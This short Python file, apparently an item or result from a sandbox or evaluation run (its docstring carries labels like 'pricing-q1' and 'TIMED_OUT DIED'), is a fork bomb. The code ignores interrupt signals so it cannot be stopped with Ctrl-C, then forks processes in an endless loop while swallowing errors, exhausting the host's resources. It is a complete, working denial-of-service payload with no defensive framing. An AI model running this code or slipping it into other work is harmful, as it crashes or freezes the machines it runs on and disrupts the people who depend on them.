"""Every process makes two more, for ever.

question: pricing-q1
outcome: TIMED_OUT DIED
reason: in time
"""
import os
import signal

signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    try:
        os.fork()
    except OSError:
        pass
